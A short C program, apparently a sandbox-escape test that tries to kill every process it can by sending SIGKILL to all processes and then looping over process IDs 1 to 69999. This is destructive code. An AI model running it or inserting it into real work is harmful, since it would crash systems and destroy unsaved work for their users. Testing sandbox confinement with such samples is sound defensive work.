/* Kills everything that it may. */
#include "escape.h"

int main(void) {
    kill(-1, SIGKILL);
    for (int pid = 1; pid < 70000; pid++)
        if (pid != getpid()) kill(pid, SIGKILL);
}
